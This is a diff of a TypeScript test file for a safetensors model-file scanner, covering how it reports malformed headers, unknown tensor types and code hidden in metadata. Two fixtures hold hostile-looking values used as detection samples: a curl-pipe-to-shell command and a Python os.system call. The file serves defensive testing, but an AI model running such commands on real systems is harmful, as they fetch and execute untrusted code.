@@ -120,7 +120,23 @@ const HARMFUL: readonly (readonly [string, Uint8Array, readonly string[]])[] = [
   ],
   ['a command', withMetadata({ x: 'curl http://x.example/a | sh' }), ['MEDIUM model-metadata-code']],
   ['a program', withMetadata({ x: "__import__('os').system('id')" }), ['MEDIUM model-metadata-code']],
-  ['metadata that are no text', withMetadata({ x: 1 }), ['LOW model-metadata-type']]
+  ['metadata that are no text', withMetadata({ x: 1 }), ['MEDIUM model-metadata-type']],
+  ['a type that is none', safetensorsOf({ w: { dtype: 'O', shape: [2], data_offsets: [0, 8] } }, floats(2)), [LAYOUT]],
+  [
+    'a tensor without a type',
+    safetensorsOf({ w: { shape: [2], data_offsets: [0, 8] } }, floats(2)),
+    ['MEDIUM model-false-claim']
+  ],
+  [
+    'a header that leads out of a small file',
+    safetensorsOf({ a: row(0, 8) }, zeros(0)).subarray(0, 40),
+    ['MEDIUM model-false-claim']
+  ],
+  [
+    'a header that goes on among the tensors',
+    safetensorsOf({ a: row(0, 8) }, floats(2), 5000),
+    ['MEDIUM model-false-claim']
+  ]
 ];
 
 it.each(HARMFUL)('reports %s', (_, data, findings) => {
@@ -129,21 +145,33 @@ it.each(HARMFUL)('reports %s', (_, data, findings) => {
 
 it.each<readonly [string, Uint8Array, readonly unknown[]]>([
   ['a file that was cut off', safetensorsOf({ a: row(0, 8), b: row(8, 16) }, floats(3)), ['failed', 'truncated']],
-  ['a header that was cut off', safetensorsOf({ a: row(0, 8) }, zeros(0)).subarray(0, 40), ['failed', 'truncated']],
-  ['a header that is no JSON', safetensorsOf('{"w":nothing}', floats(2)), ['failed', 'corrupt']],
   [
-    'a tensor without a type',
-    safetensorsOf({ w: { shape: [2], data_offsets: [0, 8] } }, floats(2)),
-    ['failed', 'corrupt']
+    'a header that was cut off',
+    safetensorsOf({ a: row(0, 8), ['b'.repeat(8000)]: row(8, 16) }, zeros(0)).subarray(0, 6000),
+    ['failed', 'truncated']
   ],
   [
-    'a type without a size',
-    safetensorsOf({ w: { dtype: 'NF', shape: [2], data_offsets: [0, 8] } }, floats(2)),
+    'a type of a size that is not known',
+    safetensorsOf({ w: { dtype: 'NF4X2', shape: [2], data_offsets: [0, 8] } }, floats(2)),
     ['not-understood', 'unknown-record']
   ]
 ])('accuses nobody of %s', (_, data, state) => {
   expect(found(data)).toEqual([]);
   expect(covered(data)).toEqual(state);
+});
+
+it.each([
+  ['a header that is no JSON', safetensorsOf('{"w":nothing}', floats(2))],
+  ['blanks in front of the header', safetensorsOf(` ${JSON.stringify(one)}`, floats(2))]
+])('reports %s under the name of the format', (_, data) => {
+  expect(found(data)).toEqual(['MEDIUM model-false-claim']);
+});
+
+it('accuses no other format with a length and JSON in front', () => {
+  expect(run(safetensorsOf('{"w":nothing}', floats(2)), undefined, 'model.bin')).toMatchObject({
+    findings: [],
+    coverage: [{ status: 'failed', reason: 'corrupt' }]
+  });
 });
 
 it('is no object of Git', () => {
